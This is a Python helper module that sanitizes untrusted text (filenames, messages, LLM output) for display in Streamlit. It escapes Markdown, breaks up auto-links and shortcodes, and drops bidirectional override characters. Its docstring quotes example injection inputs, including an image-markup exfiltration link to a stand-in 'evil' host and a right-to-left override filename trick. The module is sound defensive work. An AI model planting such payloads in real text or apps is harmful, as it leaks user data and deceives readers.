"""Untrusted text (names, filenames, messages, LLM output) shown as plain text.

Many Streamlit elements render Markdown (progress texts, captions, labels, toasts): a filename
like ``[verify](http://evil)`` would become a link and ``![x](http://evil/?d=…)`` would fetch an
image. Every ASCII punctuation mark is backslash-escaped, which CommonMark defines as the
literal character, so nothing in the text is markup.

Escapes are not enough on their own: Streamlit also rewrites the *text* after parsing. GFM
turns ``http://…``, ``www.…`` and ``name@host.tld`` in text into live links, and Streamlit
turns ``:smile:``, ``:material_icon:``, ``:streamlit:`` and `` -> `` into emoji, icons, a logo
and arrows. An invisible WORD JOINER (U+2060) is put inside each such pattern, so the
person reads exactly the text as typed and none of it comes alive.

Bidirectional overrides, embeddings and isolates (U+202A–U+202E, U+2066–U+2069) are dropped:
they would show "U+202E gnp.exe" as "exe.png", a text that is not what was typed.
"""

from __future__ import annotations

import re

_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
JOINER = "\u2060"
_BIDI_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069]")
#: Where a word joiner breaks a pattern Streamlit would rewrite in the text.
_REWRITTEN = re.compile(
    r"(?i)(?<=:)(?=//)"  # scheme://
    r"|(?<=\bwww)(?=\.)"  # www.
    r"|(?<=@)"  # name@host
    r"|(?<=:)(?=[\w+-]+:)"  # :shortcode:
    r"|(?<=<)(?=-)|(?<=-)(?=[->])|(?<=[>~<])(?==)"  # <- -> -- >= ~= <=
)


def plain(text: object) -> str:
    """``text`` as Markdown that renders as exactly that text."""
    joined = _REWRITTEN.sub(JOINER, _BIDI_CONTROLS.sub("", str(text)))
    return _PUNCTUATION.sub(r"\\\1", joined).replace("\n", "  \n")
